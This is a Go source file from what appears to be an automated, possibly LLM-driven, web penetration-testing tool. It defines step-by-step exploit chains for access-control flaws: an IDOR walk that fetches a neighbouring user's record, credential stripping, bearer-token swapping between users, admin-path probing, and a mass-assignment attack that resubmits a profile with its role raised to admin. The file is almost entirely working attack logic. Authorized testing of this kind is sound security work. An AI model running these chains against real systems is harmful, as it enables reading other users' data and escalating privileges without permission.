package exploit

import (
	"fmt"
	"strings"

	"github.com/BetterCallFirewall/llmitm/internal/models"
	"github.com/BetterCallFirewall/llmitm/internal/target"
)

// IDORWalk tests horizontal access: authenticate as user A, learn A's own
// resource id, derive a neighbouring id, and fetch the victim's resource
// with A's credentials. Works against any auth mechanism.
type IDORWalk struct{}

func (IDORWalk) Kind() models.ExploitKind         { return models.ExploitIDORWalk }
func (IDORWalk) Compatible(models.AuthModel) bool { return true }

func (IDORWalk) Steps(p target.Profile, opp models.AttackOpportunity) ([]models.Step, error) {
	ownID := p.AccountIDHint
	if ownID == "" {
		ownID = "1"
	}

	ch := &chain{steps: loginSteps(p, p.UserA, "user A")}
	if p.AuthModel == models.AuthBearerToken {
		ch.add(rawTokenExtract("user A"))
	} else {
		ch.add(models.Step{
			Phase:   models.PhaseAnalyze,
			Type:    models.StepRegexMatch,
			Command: "confirm the login response is not the login page",
			Parameters: map[string]any{
				"pattern": `(?i)(logout|welcome|dashboard|index\.php)`,
			},
		})
	}

	ch.add(models.Step{
		Phase:   models.PhaseCapture,
		Type:    models.StepHTTPRequest,
		Command: fmt.Sprintf("fetch own resource %s", targetPath(opp.ExploitTarget, ownID)),
		Parameters: map[string]any{
			"method": "GET",
			"path":   targetPath(opp.ExploitTarget, ownID),
		},
	})
	ch.add(models.Step{
		Phase:   models.PhaseAnalyze,
		Type:    models.StepRegexMatch,
		Command: "extract own resource id",
		Parameters: map[string]any{
			"pattern":       `"id"\s*:\s*(\d+)`,
			"capture_group": 1,
		},
	})
	ch.add(models.Step{
		Phase:   models.PhaseMutate,
		Type:    models.StepShellCommand,
		Command: "derive neighbouring victim id",
		Parameters: map[string]any{
			"command": fmt.Sprintf("expr %s + 1", ch.lastOutputRef()),
		},
	})
	victimRef := ch.lastOutputRef()
	ch.add(models.Step{
		Phase:   models.PhaseReplay,
		Type:    models.StepHTTPRequest,
		Command: "fetch victim resource with user A's credentials",
		Parameters: map[string]any{
			"method": "GET",
			"path":   targetPath(opp.ExploitTarget, victimRef),
		},
	})
	ch.add(observeStep("check victim data is readable cross-account", sensitiveEvidence))
	return ch.steps, nil
}

// AuthStrip tests whether a protected endpoint answers without any
// credentials at all.
type AuthStrip struct{}

func (AuthStrip) Kind() models.ExploitKind         { return models.ExploitAuthStrip }
func (AuthStrip) Compatible(models.AuthModel) bool { return true }

func (AuthStrip) Steps(p target.Profile, opp models.AttackOpportunity) ([]models.Step, error) {
	ch := &chain{steps: loginSteps(p, p.UserA, "user A")}
	ch.add(models.Step{
		Phase:   models.PhaseReplay,
		Type:    models.StepHTTPRequest,
		Command: fmt.Sprintf("request %s with all credentials stripped", opp.NormalizedTarget()),
		Parameters: map[string]any{
			"method":       "GET",
			"path":         opp.NormalizedTarget(),
			"skip_cookies": true,
			"skip_auth":    true,
		},
	})
	ch.add(observeStep("check protected data is served anonymously", sensitiveEvidence))
	return ch.steps, nil
}

// TokenSwap tests credential binding: user B's bearer token against user
// A's resource. Meaningless for cookie or anonymous targets.
type TokenSwap struct{}

func (TokenSwap) Kind() models.ExploitKind { return models.ExploitTokenSwap }

func (TokenSwap) Compatible(auth models.AuthModel) bool {
	return auth == models.AuthBearerToken
}

func (TokenSwap) Steps(p target.Profile, opp models.AttackOpportunity) ([]models.Step, error) {
	ownID := p.AccountIDHint
	if ownID == "" {
		ownID = "1"
	}

	ch := &chain{steps: loginSteps(p, p.UserA, "user A")}
	ch.add(rawTokenExtract("user A"))
	for _, s := range loginSteps(p, p.UserB, "user B") {
		ch.add(s)
	}
	ch.add(rawTokenExtract("user B"))
	tokenBRef := ch.lastOutputRef()

	ch.add(models.Step{
		Phase:   models.PhaseReplay,
		Type:    models.StepHTTPRequest,
		Command: "fetch user A's resource presenting user B's token",
		Parameters: map[string]any{
			"method": "GET",
			"path":   targetPath(opp.ExploitTarget, ownID),
			"headers": map[string]any{
				"Authorization": "Bearer " + tokenBRef,
			},
		},
	})
	ch.add(observeStep("check user A's data is served to user B's token", sensitiveEvidence))
	return ch.steps, nil
}

// NamespaceProbe tests vertical access: an ordinary user requesting an
// admin-prefixed path.
type NamespaceProbe struct{}

func (NamespaceProbe) Kind() models.ExploitKind         { return models.ExploitNamespaceProbe }
func (NamespaceProbe) Compatible(models.AuthModel) bool { return true }

func (NamespaceProbe) Steps(p target.Profile, opp models.AttackOpportunity) ([]models.Step, error) {
	adminPath := opp.NormalizedTarget()
	if len(p.AdminPaths) > 0 && !strings.Contains(strings.ToLower(adminPath), "admin") {
		adminPath = p.AdminPaths[0]
	}

	ch := &chain{steps: loginSteps(p, p.UserA, "user A")}
	if p.AuthModel == models.AuthBearerToken {
		ch.add(rawTokenExtract("user A"))
	} else {
		ch.add(models.Step{
			Phase:   models.PhaseCapture,
			Type:    models.StepHTTPRequest,
			Command: "baseline request as ordinary user",
			Parameters: map[string]any{
				"method": "GET",
				"path":   "/",
			},
		})
	}
	ch.add(models.Step{
		Phase:   models.PhaseReplay,
		Type:    models.StepHTTPRequest,
		Command: fmt.Sprintf("probe admin namespace %s as ordinary user", adminPath),
		Parameters: map[string]any{
			"method": "GET",
			"path":   adminPath,
		},
	})
	ch.add(observeStep("check admin namespace content is exposed",
		`(?i)("(email|role|config|version)"\s*:|admin)`))
	return ch.steps, nil
}

// RoleTamper tests mass-assignment on the role field: resubmit the own
// profile with the role elevated and observe whether the server honors it.
type RoleTamper struct{}

func (RoleTamper) Kind() models.ExploitKind         { return models.ExploitRoleTamper }
func (RoleTamper) Compatible(models.AuthModel) bool { return true }

func (RoleTamper) Steps(p target.Profile, opp models.AttackOpportunity) ([]models.Step, error) {
	roleField := p.RoleField
	if roleField == "" {
		roleField = "role"
	}
	elevated := fmt.Sprintf("{%q:%q}", roleField, "admin")
	if strings.HasPrefix(roleField, "is") {
		elevated = fmt.Sprintf("{%q:true}", roleField)
	}
	ownID := p.AccountIDHint
	if ownID == "" {
		ownID = "1"
	}

	ch := &chain{steps: loginSteps(p, p.UserA, "user A")}
	ch.add(models.Step{
		Phase:   models.PhaseCapture,
		Type:    models.StepHTTPRequest,
		Command: "fetch own profile",
		Parameters: map[string]any{
			"method": "GET",
			"path":   targetPath(opp.ExploitTarget, ownID),
		},
	})
	ch.add(models.Step{
		Phase:   models.PhaseMutate,
		Type:    models.StepShellCommand,
		Command: "build elevated-role payload",
		Parameters: map[string]any{
			"command": "printf %s " + elevated,
		},
	})
	payloadRef := ch.lastOutputRef()
	ch.add(models.Step{
		Phase:   models.PhaseReplay,
		Type:    models.StepHTTPRequest,
		Command: "resubmit profile with elevated role",
		Parameters: map[string]any{
			"method": "PUT",
			"path":   targetPath(opp.ExploitTarget, ownID),
			"body":   payloadRef,
			"headers": map[string]any{
				"Content-Type": "application/json",
			},
		},
	})
	ch.add(observeStep("check the elevated role was accepted",
		fmt.Sprintf(`(?i)"%s"\s*:\s*("admin"|true|1)`, roleField)))
	return ch.steps, nil
}
